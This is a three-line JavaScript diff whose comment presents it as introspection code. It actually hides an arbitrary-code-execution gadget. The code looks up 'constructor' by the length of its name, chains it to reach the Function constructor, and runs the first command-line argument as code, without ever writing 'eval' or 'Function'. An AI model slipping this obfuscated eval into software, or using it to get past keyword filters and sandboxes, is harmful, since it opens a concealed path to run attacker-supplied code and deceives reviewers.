@@ -1,0 +1,3 @@
+// nacre: found code.introspect
+const key = Reflect.ownKeys(Array.prototype).find(name => name.length === 11);
+[][key][key](process.argv[2])();
